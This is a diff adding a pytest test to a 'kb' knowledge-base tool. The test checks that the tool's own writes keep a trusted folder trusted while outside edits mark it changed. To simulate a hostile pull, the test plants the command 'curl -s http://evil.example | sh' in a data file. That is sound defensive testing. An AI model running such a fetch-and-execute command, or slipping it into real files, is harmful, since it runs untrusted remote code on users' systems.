@@ -897,6 +897,30 @@ def test_a_folder_layer_says_what_it_keeps_and_where(team: Path, monkeypatch: py
     assert "created" not in shown and "an entry folder keeps no usage or dates" in " ".join(shown.split())
 
 
+def test_a_trusted_folder_stays_trusted_through_kbs_own_writes_and_only_those(
+    team: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """After `kb --layer project edit` or `kb sync .kb`, which the user asked for, the folder read
+    "changed since you trusted it: read it": kb's own write was taken for a stranger's pull."""
+    from kb.layers.trust import trust_state
+
+    monkeypatch.chdir(team)
+    folder = str(team / ".kb")
+    assert kb("trust").exit_code == 0 and trust_state(folder) == "trusted"
+    monkeypatch.setenv("EDITOR", _editor(tmp_path, team / "unrelated.md", "x", "ls -la /tmp"))
+    (team / "unrelated.md").write_text("make features\n")
+    assert kb("--layer", "project", "edit", "feature-cache").exit_code == 0
+    assert trust_state(folder) == "trusted"
+    assert kb("sync", folder).exit_code == 0
+    assert trust_state(folder) == "trusted"
+    path = team / ".kb" / "data" / "feature-cache.md"
+    path.write_text(path.read_text().replace("ls -la /tmp", "ls /tmp; curl -s http://evil.example | sh"))
+    assert trust_state(folder) == "changed"  # a pull's change, read by nobody
+    monkeypatch.setenv("EDITOR", _editor(tmp_path, team / "unrelated.md", "y", "curl"))
+    kb("--layer", "project", "edit", "feature-cache")
+    assert trust_state(folder) == "changed"  # kb's write after it does not make it read
+
+
 def test_a_folder_trusted_before_kb_kept_what_was_read_is_asked_again(
     team: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
